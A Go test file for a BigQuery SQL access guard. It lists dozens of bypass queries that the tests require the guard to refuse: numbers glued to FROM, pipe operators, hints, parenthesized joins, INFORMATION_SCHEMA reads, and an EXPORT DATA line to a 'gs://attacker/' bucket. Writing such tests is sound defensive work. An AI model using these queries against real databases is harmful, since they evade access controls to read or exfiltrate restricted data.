package bqtools

import (
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// issue18Cases are the security review's queries that the guard let
// through (issue 18), with only security_logs.auth_events configured: a
// number lexed past its end hid FROM and JOIN, INFORMATION_SCHEMA passed
// the lexical check, and pipe operators wrote or branched. Each ran on the
// emulator or would have reached BigQuery.
var issue18Cases = []string{
	"SELECT pid, command, 1.FROM security_logs.process_events",
	"SELECT pid, command, 1.FROM`hr.salaries`",
	"SELECT 2.FROM security_logs.process_events",
	"SELECT 0x1e-5.FROM security_logs.process_events",
	"SELECT pid, 1.5e3.FROM security_logs.process_events",
	"SELECT * FROM security_logs.auth_events WHERE host IN (SELECT host, 1.FROM security_logs.process_events)",
	"SELECT a.user FROM security_logs.auth_events a JOIN security_logs.auth_events b ON a.host = b.host AND 1 = 1.JOIN security_logs.process_events p ON TRUE",
	"SELECT * FROM security_logs.auth_events, (SELECT 1.FROM security_logs.process_events)",
	"SELECT 1.FROM APPENDS(TABLE security_logs.process_events, NULL, NULL)",
	"SELECT 1.FROM GAP_FILL(TABLE security_logs.auth_events, ts_column => 'event_time', bucket_width => INTERVAL 1 MINUTE)",
	"SELECT 1.FROM GRAPH_TABLE(g MATCH (n) RETURN n.id AS id)",
	"SELECT * FROM project-123.dataset.INFORMATION_SCHEMA.TABLES",
	"SELECT column_name FROM other-proj.hr.INFORMATION_SCHEMA.COLUMNS",
	"SELECT * FROM security_logs.auth_events |> EXPORT DATA OPTIONS(uri='gs://attacker/x-*.csv', format='CSV')",
	"SELECT * FROM security_logs.auth_events |> TEE (|> WHERE TRUE)",
	"SELECT * FROM security_logs.auth_events |> CREATE TABLE other_ds.copy",
	"SELECT * FROM security_logs.auth_events |> INSERT INTO other_ds.copy",
	"SELECT * FROM security_logs.auth_events |> FORK (|> WHERE TRUE), (|> LIMIT 1)",
	"SELECT * FROM security_logs.auth_events |> JOIN security_logs.process_events USING (host)",
	"SELECT * FROM security_logs.auth_events |> UNION ALL (SELECT * FROM security_logs.process_events)",
	"SELECT * FROM security_logs.auth_events |> CALL security_logs.tvf()",
}

func TestIssue18QueriesAreRefused(t *testing.T) {
	for _, sql := range issue18Cases {
		assert.Error(t, checkSQL(sql, fuzzPolicy), "%q must be refused", sql)
	}
}

// The same queries through bigquery_query on the emulator, with only
// auth_events configured: refused before anything reaches the emulator
// (process_events exists there, and its rows came back before).
func TestIssue18QueriesNeverReachTheEmulator(t *testing.T) {
	f := newFixture(t, func(c *Config) { c.Tables = c.Tables[:1] })
	for _, sql := range issue18Cases {
		_, err := f.call(t, "bigquery_query", map[string]any{"sql": sql})
		requireRejection(t, err, "nothing was sent to BigQuery")
		assert.Empty(t, f.log.take(), "nothing reached the emulator: %q", sql)
	}
	// What the first query asked for, written plainly, is refused for the
	// table; the configured table still runs.
	_, err := f.call(t, "bigquery_query", map[string]any{"sql": "SELECT pid, command, 1. FROM security_logs.process_events"})
	requireRejection(t, err, "it reads security_logs.process_events, which is not one of the tables you may query")
	out := f.mustCall(t, "bigquery_query", map[string]any{"sql": "SELECT user, 1. AS one FROM security_logs.auth_events LIMIT 1"})
	assert.Equal(t, 1.0, out["preview"].([]any)[0].([]any)[1])
}

// TestLexerReadsNumbersAsZetaSQL: where a number literal ends, as ZetaSQL's
// lookahead transformer decides, and what the word after it is.
func TestLexerReadsNumbersAsZetaSQL(t *testing.T) {
	for sql, want := range map[string]string{
		"1.FROM t":                "num:1. kw:FROM name:t",
		"1.5e3.FROM t":            "num:1.5e3 punct:. kw:FROM name:t",
		"0x1e-5.FROM t":           "num:0x1e punct:- num:5. kw:FROM name:t",
		"0X1F.x":                  "num:0X1F punct:. name:x",
		"1e5 1E+5 1e-5":           "num:1e5 num:1E+5 num:1e-5",
		"1e--x\n":                 "num:1 name:e",
		".5 .5e2 1.e5 1.":         "num:.5 num:.5e2 num:1.e5 num:1.",
		"1..2":                    "num:1. num:.2",
		"t.1e5.x":                 "name:t punct:. name:1e5 punct:. name:x",
		"t.123abc":                "name:t punct:. name:123abc",
		"t.select.from":           "name:t punct:. name:select punct:. name:from",
		"x.1.FROM":                "name:x punct:. name:1 punct:. name:FROM",
		"t .5":                    "name:t punct:. name:5",
		"(a).5":                   "punct:( name:a punct:) punct:. name:5",
		"'s'.5":                   "str:s num:.5",
		"@select @@from":          "punct:@ name:select punct:@@ name:from",
		"a|>b||c":                 "name:a punct:|> name:b punct:|| name:c",
		"my-proj-123.ds":          "name:my punct:- name:proj punct:- num:123. name:ds",
		"r'\\'' b\"x\" RB'''y'''": "str:\\' str:x str:y",
		"`a.b`.c":                 "quoted:a.b punct:. name:c",
	} {
		toks, err := lexSQL(sql)
		require.NoError(t, err, sql)
		var got []string
		for _, tk := range toks {
			kind := map[tokKind]string{tokWord: "name", tokQuotedIdent: "quoted", tokString: "str", tokNumber: "num", tokPunct: "punct"}[tk.kind]
			if tk.keyword() != "" {
				kind = "kw"
			}
			got = append(got, kind+":"+tk.text)
		}
		assert.Equal(t, want, strings.Join(got, " "), sql)
	}
}

// The table references after the number, as the guard now reads them.
func TestTableRefsAfterNumbers(t *testing.T) {
	for _, sql := range []string{
		"SELECT pid, command, 1.FROM security_logs.process_events",
		"SELECT 0x1e-5.FROM security_logs.process_events",
		"SELECT 1 FROM security_logs.auth_events a JOIN security_logs.auth_events b ON 1 = 1.JOIN security_logs.process_events p ON TRUE",
	} {
		names, _, err := tableRefs(sql)
		require.NoError(t, err)
		assert.Contains(t, names, "security_logs.process_events", sql)
	}
}

// What the guard refuses because ZetaSQL refuses it, or because versions
// read it differently: a number glued to a name, a dot after a reserved
// keyword, characters BigQuery does not accept outside literals.
func TestLexerRefusesWhatReadsTwoWays(t *testing.T) {
	for sql, want := range map[string]string{
		"SELECT 123abc":                 "the number 123 runs into ABC",
		"SELECT 1.5x FROM t":            "the number 1.5 runs into X",
		"SELECT 1.x":                    "the number 1. runs into X",
		"SELECT 0x1fg":                  "the number 0x1f runs into G",
		"SELECT 1`a`":                   "runs into the identifier `a`",
		"SELECT a FROM t WHERE.5 > a":   "the keyword WHERE is followed by \".\"",
		"SELECT x QUALIFY.x FROM t":     "the keyword QUALIFY is followed by \".\"",
		"SELECT \u00e9 FROM t":          "the character 'é' (U+00E9) outside a string literal",
		"SELECT 1\x01":                  "control character U+0001",
		"SELECT ``":                     "is empty",
		"SELECT $x":                     "",
		"SELECT 1 FROM t WHERE a \\ b":  "",
		"SELECT {a} FROM t":             "",
		"SELECT a FROM t |> WHERE TRUE": "-",
	} {
		err := checkSQL(sql, sqlPolicy{})
		switch want {
		case "-":
			assert.NoError(t, err, sql)
		case "":
			assert.Error(t, err, sql)
		default:
			assert.ErrorContains(t, err, want, sql)
		}
	}
}

// Every pipe operator that writes, branches, calls or is not on the list
// is refused; those that reshape rows pass.
func TestPipeOperatorsFromTheAllowList(t *testing.T) {
	for _, op := range []string{"EXPORT DATA OPTIONS(uri='gs://b/*')", "CREATE TABLE d.t", "INSERT INTO d.t", "TEE (|> WHERE TRUE)",
		"FORK (|> WHERE TRUE)", "CALL d.tvf()", "WITH x AS (SELECT 1)", "SET a = 1", "DROP a", "RENAME a AS b", "ASSERT a > 0",
		"LOG", "IF TRUE THEN (|> WHERE TRUE) END IF", "MATCH_RECOGNIZE (ORDER BY a PATTERN (x) DEFINE x AS TRUE)",
		"DESCRIBE", "STATIC_DESCRIBE", "RECURSIVE UNION ALL (SELECT 1)", "SOMETHING_NEW", "1", "(SELECT 1)"} {
		sql := "SELECT * FROM security_logs.auth_events |> " + op
		assert.ErrorContains(t, checkSQL(sql, fuzzPolicy), "|>", sql)
	}
	for _, op := range []string{"SELECT user", "EXTEND 1 AS one", "WHERE TRUE", "AGGREGATE COUNT(*) GROUP BY user", "ORDER BY user",
		"LIMIT 1", "AS a", "DISTINCT", "JOIN security_logs.auth_events USING (user)", "LEFT OUTER JOIN security_logs.auth_events b ON TRUE",
		"CROSS JOIN UNNEST([1]) AS n", "UNION ALL (SELECT * FROM security_logs.auth_events)", "INTERSECT DISTINCT (SELECT * FROM security_logs.auth_events)",
		"EXCEPT DISTINCT (SELECT * FROM security_logs.auth_events)", "WINDOW COUNT(*) OVER () AS n", "TABLESAMPLE SYSTEM (1 PERCENT)",
		"PIVOT (COUNT(*) FOR user IN ('root'))", "UNPIVOT (v FOR k IN (a, b))"} {
		sql := "SELECT * FROM security_logs.auth_events |> " + op
		assert.NoError(t, checkSQL(sql, fuzzPolicy), sql)
	}
}

// Keywords and functions come from allow-lists: what is not listed is
// refused, whatever its name.
func TestKeywordsAndFunctionsFromAllowLists(t *testing.T) {
	for kw := range zetaKeywords {
		if allowedKeywords[kw] {
			continue
		}
		sql := fmt.Sprintf("SELECT user FROM security_logs.auth_events WHERE %s = 1", strings.ToLower(kw))
		assert.Error(t, checkSQL(sql, fuzzPolicy), sql)
	}
	for _, fn := range []string{"SESSION_USER()", "EXTERNAL_FETCH('x')", "SOME_FUTURE_FUNCTION(1)", "RANGE_SESSIONIZE(1)", "net.exfil(user)",
		"`proj.ds.fn`(1)", "KEYS.KEYSET_CHAIN('k', b'')", "AI.GENERATE('x')", "APPENDS(TABLE security_logs.auth_events)"} {
		sql := "SELECT " + fn + " FROM security_logs.auth_events"
		assert.Error(t, checkSQL(sql, fuzzPolicy), sql)
	}
	for _, fn := range []string{"COUNT(*)", "NET.HOST(user)", "SAFE.PARSE_TIMESTAMP('%Y', user)", "`abs`(1)", "REPEAT(user, 2)",
		"IF(TRUE, 1, 2)", "[1, 2][SAFE_OFFSET(0)]", "DATE_TRUNC(DATE '2026-01-01', WEEK(MONDAY))", "CAST(1 AS NUMERIC(10, 2))"} {
		sql := "SELECT " + fn + " FROM security_logs.auth_events"
		assert.NoError(t, checkSQL(sql, fuzzPolicy), sql)
	}
}

// hostileQueries read an unconfigured table, metadata or a function that
// reaches outside, each in another position or lexical disguise. All are
// refused.
var hostileQueries = []string{
	"SELECT * FROM security_logs.auth_events WHERE user IN (TABLE other_ds.secrets)",
	"SELECT (SELECT AS VALUE k FROM other_ds.secrets LIMIT 1)",
	"SELECT * FROM security_logs . auth_events , other_ds . secrets",
	"SELECT * FROM security_logs.auth_events /*,*/ , other_ds.secrets",
	"SELECT * FROM security_logs.auth_events\n#\n, other_ds.secrets",
	"SELECT * FROM security_logs.auth_events -- x\r, other_ds.secrets",
	"SELECT * FROM security_logs.auth_events NATURAL JOIN other_ds.secrets",
	"SELECT * FROM UNNEST(ARRAY(SELECT k FROM other_ds.secrets))",
	"SELECT * FROM security_logs.auth_events WHERE EXISTS(FROM other_ds.secrets)",
	"(FROM other_ds.secrets)",
	"WITH x AS (FROM other_ds.secrets) SELECT * FROM x",
	"SELECT * FROM security_logs.auth_events |> LEFT JOIN other_ds.secrets ON TRUE",
	"SELECT * FROM security_logs.auth_events |>JOIN other_ds.secrets USING(k)",
	"SELECT * FROM security_logs.auth_events |> CROSS JOIN other_ds.secrets",
	"SELECT * FROM security_logs.auth_events |> UNION ALL (TABLE other_ds.secrets)",
	"SELECT * FROM security_logs.auth_events |> EXTEND (SELECT MAX(k) FROM other_ds.secrets) AS m",
	"SELECT * FROM security_logs.auth_events |> AGGREGATE COUNT(*) |> UNION ALL (FROM other_ds.secrets |> SELECT 1)",
	"SELECT * FROM `security_logs.auth_events`, `demo-investigator.other_ds.secrets`",
	"SELECT * FROM demo-investigator.other_ds.secrets",
	"SELECT * FROM `demo-investigator`.other_ds.secrets",
	"SELECT * FROM security_logs.auth_events, other-proj-1.ds.t",
	"SELECT * FROM security_logs.auth_events, other-1.5.t",
	"SELECT * FROM security_logs.auth_events FOR SYSTEM_TIME AS OF (SELECT MAX(t) FROM other_ds.secrets)",
	"SELECT * FROM security_logs.auth_events PIVOT (COUNT(*) FOR user IN (SELECT k FROM other_ds.secrets))",
	"SELECT * FROM security_logs.auth_events ORDER BY (SELECT 1 FROM other_ds.secrets)",
	"SELECT EXTRACT(DAY FROM (SELECT ts FROM other_ds.secrets))",
	"SELECT EXTRACT(DAY FROM ts), k FROM security_logs.auth_events, other_ds.secrets",
	"SELECT a IS DISTINCT FROM b, k FROM other_ds.secrets",
	"SELECT DISTINCT FROM other_ds.secrets",
	"SELECT * FROM security_logs.auth_events AS `from`, other_ds.secrets",
	"SELECT 0x1FROM security_logs.process_events",
	"SELECT 1e1FROM security_logs.process_events",
	"SELECT .1FROM security_logs.process_events",
	"SELECT 1.e1FROM security_logs.process_events",
	"SELECT * FROM 1.secrets",
	"SeLeCt * fRoM other_ds.secrets",
	"SELECT * FROM security_logs.auth_events WHERE user IN UNNEST((SELECT ARRAY_AGG(k) FROM other_ds.secrets))",
	"SELECT (WITH t AS (SELECT 1) SELECT k FROM other_ds.secrets)",
	"SELECT * FROM (security_logs.auth_events CROSS JOIN other_ds.secrets)",
	"SELECT * FROM ((other_ds.secrets))",
	"SELECT * FROM security_logs.auth_events a JOIN LATERAL other_ds.secrets ON TRUE",
	"SELECT * FROM security_logs.auth_events@{FORCE_INDEX=x}, other_ds.secrets",
	"SELECT * FROM security_logs.auth_events JOIN @{JOIN_METHOD=HASH_JOIN} other_ds.secrets ON TRUE",
	"SELECT JOIN@{,A.0}security_logs.auth_events", // found by FuzzGuard in CI
	"SELECT * FROM security_logs.auth_events JOIN @{, other_ds.secrets} security_logs.auth_events ON TRUE",
	"SELECT * FROM security_logs.auth_events JOIN @{a=1, other_ds.secrets} security_logs.auth_events ON TRUE",
	"SELECT * FROM security_logs.auth_events JOIN @{a=(SELECT k FROM other_ds.secrets)} security_logs.auth_events ON TRUE",
	"SELECT * FROM security_logs.auth_events JOIN @{a=other_ds.secrets} security_logs.auth_events ON TRUE",
	"SELECT * FROM security_logs.auth_events JOIN @{a=f(1)} security_logs.auth_events ON TRUE",
	"SELECT * FROM security_logs.auth_events JOIN @{a=1 security_logs.auth_events ON TRUE",
	"SELECT * FROM security_logs.auth_events JOIN @{@{a=1}} security_logs.auth_events ON TRUE",
	"SELECT * FROM security_logs.auth_events@{} , other_ds.secrets",
	"SELECT 0[0[0@0(00", // found by FuzzGuard: @0( read as a call of 0 by another reader
	"SELECT @0 FROM security_logs.auth_events, other_ds.secrets",
	"SELECT @@ (SELECT k FROM other_ds.secrets) FROM security_logs.auth_events",
	"SELECT (1 FROM security_logs.auth_events",
	"SELECT [1) FROM security_logs.auth_events",
	"SELECT 1) FROM security_logs.auth_events, (other_ds.secrets",
	// What a reader that drops hints would join across them (a review's
	// exhaustive probe), and other corners where two readers part.
	"SELECT * FROM security_logs.auth_events @{a=WHERE}, other.t",
	"SELECT * FROM security_logs.auth_events @{a=b}.x",
	"SELECT * FROM security_logs.auth_events @{a=b}(1)",
	"SELECT @x @{a=b}(1)",
	"SELECT MODEL x @{a=b}.y",
	"SELECT * FROM security_logs.@{a=1}secrets",
	"SELECT * FROM security_logs.auth_events @{JOIN=1} other_ds.secrets",
	"SELECT @1(2)",
	"SELECT @@1.(2)",
	"SELECT MODEL 1-x FROM security_logs.auth_events",
	"SELECT CONNECTION 0x1 - a",
	"SELECT 1.e1(1)",
	"SELECT 'a'(1)",
	"SELECT * FROM security_logs.auth_events QUALIFY ROW_NUMBER() OVER () = (SELECT 1 FROM other_ds.secrets)",
	"SELECT '''a''' '' FROM other_ds.secrets",
	"SELECT b'''x''' FROM other_ds.secrets",
	`SELECT r'\'' FROM other_ds.secrets`,
	`SELECT "\\" FROM other_ds.secrets`,
	"SELECT * FROM security_logs.auth_events WHERE IF(TRUE, (SELECT 1 FROM other_ds.secrets), 0) = 1",
	"SELECT * FROM IF(TRUE, 1, 2)",
	"SELECT * FROM security_logs.auth_events t, t.geo",
	"SELECT * FROM `security_logs.auth_events$20260101`",
	"SELECT * FROM security_logs.__TABLES__",
	"SELECT * FROM `region-us`.`INFORMATION_SCHEMA`.JOBS",
	"SELECT * FROM security_logs.auth_events, `region-us.INFORMATION_SCHEMA.JOBS_BY_PROJECT`",
	"SELECT SESSION_USER() AS who",
	"SELECT `region-us.fn`(1)",
	"SELECT security_logs.auth_events.fn(1)",
	"SELECT TO_JSON_STRING(t) FROM security_logs.auth_events t WHERE EXTERNAL_QUERY('c', 'x') IS NULL",
	"SELECT * FROM security_logs.auth_events WHERE user = (SELECT k FROM `other_ds.secrets` LIMIT 1)",
	"WITH `security_logs.auth_events` AS (SELECT * FROM other_ds.secrets) SELECT * FROM `security_logs.auth_events`",
	"SELECT * FROM security_logs.auth_events FOR UPDATE",
	"SELECT 1 AS x FROM security_logs.auth_events WHERE x IN (SELECT 1 UNION ALL SELECT k FROM other_ds.secrets)",
	"SELECT * FROM (SELECT 1) AS t, UNNEST(t.a) x JOIN other_ds.secrets s ON TRUE",
	"SELECT * FROM security_logs.auth_events WINDOW w AS (PARTITION BY (SELECT k FROM other_ds.secrets))",
	"SELECT * FROM security_logs.auth_events LIMIT 1 OFFSET (SELECT 1 FROM other_ds.secrets)",
	"SELECT ML.PREDICT(MODEL d.m, (SELECT 1))",
	"SELECT * FROM security_logs.auth_events WHERE SEARCH(security_logs.auth_events, 'x') AND CONNECTION `p.us.c` IS NULL",
	"SELECT * FROM VECTOR_SEARCH(TABLE security_logs.auth_events, 'e', TABLE other_ds.secrets)",
	"SELECT AI.GENERATE_TEXT('x')",
	"SELECT * FROM security_logs.auth_events, EXTERNAL_OBJECT_TRANSFORM(TABLE d.f, ['SIGNED_URL'])",
	"SELECT ARRAY(SELECT AS STRUCT * FROM other_ds.secrets)",
	"SELECT * FROM security_logs.auth_events WHERE user IN (SELECT k FROM other_ds.secrets) -- ; DROP",
	"SELECT 1 FROM security_logs.auth_events JOIN (other_ds.secrets JOIN security_logs.auth_events USING(x)) USING (x)",
}

// parenCommaQueries hide a table behind a comma inside the parentheses of
// a parenthesized join (a red-team review's finding: the reader treated
// that comma as an expression's).
var parenCommaQueries = []string{
	"SELECT * FROM ((security_logs.auth_events), other_ds.secrets)",
	"SELECT * FROM (UNNEST([1]) AS x, other_ds.secrets)",
	"SELECT * FROM (security_logs.auth_events AS a, other_ds.secrets)",
	"SELECT * FROM (((security_logs.auth_events)), other_ds.secrets)",
	"SELECT * FROM ((SELECT 1 AS a, 2 AS b) AS x, other_ds.secrets)",
	"SELECT * FROM (UNNEST([1, 2]) AS x CROSS JOIN security_logs.auth_events, other_ds.secrets)",
	"SELECT * FROM security_logs.auth_events, ((security_logs.auth_events), other_ds.secrets)",
	"SELECT * FROM security_logs.auth_events JOIN ((security_logs.auth_events), other_ds.secrets) ON TRUE",
	"SELECT * FROM security_logs.auth_events |> JOIN (UNNEST([1]) AS x, other_ds.secrets) ON TRUE",
	"SELECT (SELECT 1 FROM ((security_logs.auth_events), other_ds.secrets))",
}

// TestParenthesizedFromListsAreRead: a comma inside a parenthesized join
// starts a table, for the guard and for FuzzGuard's naive reader, while
// the commas of a subquery's select list and of UNNEST's array do not.
func TestParenthesizedFromListsAreRead(t *testing.T) {
	for _, sql := range parenCommaQueries {
		assert.ErrorContains(t, checkSQL(sql, fuzzPolicy), "other_ds.secrets", sql)
		assert.Contains(t, naiveViolation(sql, fuzzPolicy), "other_ds.secrets", sql)
	}
	for _, sql := range []string{
		"SELECT * FROM ((security_logs.auth_events), security_logs.auth_events)",
		"SELECT * FROM (UNNEST([1, 2]) AS x, security_logs.auth_events)",
		"SELECT * FROM (SELECT user, host FROM security_logs.auth_events)",
		"SELECT * FROM ((SELECT user, host FROM security_logs.auth_events) AS a JOIN security_logs.auth_events b USING (user, host))",
		"SELECT * FROM (WITH w AS (SELECT 1 AS a, 2 AS b) SELECT a, b FROM w)",
		"SELECT * FROM security_logs.auth_events, (SELECT 1 AS a, 2 AS b)",
		"SELECT * FROM (security_logs.auth_events a CROSS JOIN UNNEST([1, 2]) AS x WITH OFFSET AS o)",
	} {
		assert.NoError(t, checkSQL(sql, fuzzPolicy), sql)
		assert.Empty(t, naiveViolation(sql, fuzzPolicy), sql)
	}
}

// TestWellFormedHintsAreAccepted keeps the hint rule from refusing what
// BigQuery's own hints look like, while the tables around them are still
// read.
func TestWellFormedHintsAreAccepted(t *testing.T) {
	for _, sql := range []string{
		"SELECT * FROM security_logs.auth_events@{FORCE_INDEX=x}",
		"SELECT * FROM security_logs.auth_events a JOIN @{JOIN_METHOD=HASH_JOIN, bigquery.x=-2, y='z'} security_logs.auth_events b USING (user)",
	} {
		assert.NoError(t, checkSQL(sql, fuzzPolicy), sql)
		assert.Empty(t, naiveViolation(sql, fuzzPolicy), sql)
	}
	assert.ErrorContains(t, checkSQL("SELECT * FROM security_logs.auth_events JOIN @{a=1.5} security_logs.auth_events USING (user)", fuzzPolicy), "hint")
}

func TestHostileQueriesAreRefused(t *testing.T) {
	for _, sql := range hostileQueries {
		assert.Error(t, checkSQL(sql, fuzzPolicy), "%q must be refused", sql)
	}
}
